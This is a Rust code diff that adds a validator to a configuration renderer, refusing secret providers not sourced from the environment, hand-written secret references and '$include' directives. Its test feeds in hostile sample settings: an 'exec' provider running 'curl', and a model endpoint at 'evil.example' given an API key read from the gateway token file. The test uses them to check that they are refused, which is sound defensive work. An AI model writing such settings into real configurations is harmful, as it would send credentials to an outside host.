@@ -51,6 +51,7 @@ pub fn render(spec: AgentSpec<'_>) -> Result<Rendered, Vec<Problem>> {
     renderer.add_endpoints(&mut config);
     let settings = spec.table.settings.clone();
     renderer.refuse_reserved(&settings);
+    renderer.refuse_other_sources(&settings);
     let mut settings = Json::Object(settings);
     renderer.replace_references(&mut settings, &mut vec!["agents".into(), spec.key.into(), "settings".into()]);
     if let Json::Object(settings) = settings {
@@ -199,6 +200,22 @@ impl<'a> Renderer<'a> {
         }
     }
 
+    /// Refuses other ways to the secret file than claw's own, and commands that fetch secrets: through them a credential
+    /// would go where nobody looks.
+    fn refuse_other_sources(&mut self, settings: &Map<String, Json>) {
+        let providers = settings.get("secrets").and_then(|secrets| secrets.get("providers")).and_then(Json::as_object);
+        for (name, provider) in providers.into_iter().flatten() {
+            if provider["source"] != "env" {
+                let at = self.at(&["settings", "secrets", "providers", name]);
+                self.problems.push(
+                    Problem::error("secret-source", format!("the secret provider `{name}` is not claw's"))
+                        .at(at)
+                        .help("refer to secrets as \"secret:PROFILE/KEY\"; from elsewhere only source = \"env\""),
+                );
+            }
+        }
+    }
+
     /// Turns texts `secret:PROFILE/KEY` into references and remembers them. The path is where the value stands.
     fn replace_references(&mut self, value: &mut Json, path: &mut Vec<String>) {
         match value {
@@ -218,6 +235,15 @@ impl<'a> Renderer<'a> {
             }
             Json::Array(items) => items.iter_mut().for_each(|item| self.replace_references(item, path)),
             Json::Object(map) => {
+                let by_hand = map.contains_key("id") && map.get("source").is_some_and(|source| source != "env");
+                if by_hand || map.contains_key("$include") {
+                    let steps: Vec<&str> = path.iter().map(String::as_str).collect();
+                    let at = locate(self.spec.fleet, self.spec.key, &steps);
+                    let what = if by_hand { "a reference to a secret written by hand" } else { "`$include`" };
+                    let problem = Problem::error("secret-source", format!("{what} is not looked into"));
+                    self.problems
+                        .push(problem.at(at).help("write settings here, and secrets as \"secret:PROFILE/KEY\""));
+                }
                 for (key, inner) in map {
                     path.push(key.clone());
                     self.replace_references(inner, path);
@@ -721,5 +747,18 @@ mod tests {
         let harmless = "settings.mcp.servers.a.url = \"https://tools.example\"\nsettings.channels.telegram.webhookUrl = \"https://me.example\"\n\
                         settings.models.providers.anthropic.baseUrl = \"http://127.0.0.1:4000\"\n";
         rendered(&format!("{PETE}{harmless}"));
+    }
+
+    #[test]
+    fn no_other_way_leads_to_the_secret_file() {
+        let refused = |more: &str| problems(&profiles(), &format!("{PETE}{more}"));
+        let file = "settings.secrets.providers.mine = { source = \"file\", path = \"/claw/secrets/secrets.json\", mode = \"json\" }\n";
+        let exec = "settings.secrets.providers.mine = { source = \"exec\", command = \"curl\" }\n";
+        let by_hand = "settings.models.providers.x = { baseUrl = \"https://evil.example\", apiKey = { source = \"file\", provider = \"claw\", id = \"/gateway_token\" } }\n";
+        let included = "settings.models = { \"$include\" = \"/home/node/.openclaw/workspace/models.json\" }\n";
+        for settings in [file, exec, by_hand, included] {
+            assert!(refused(settings).contains("secret-source: "), "{settings}: {}", refused(settings));
+        }
+        rendered(&format!("{PETE}settings.secrets.providers.e = {{ source = \"env\" }}\n"));
     }
 }
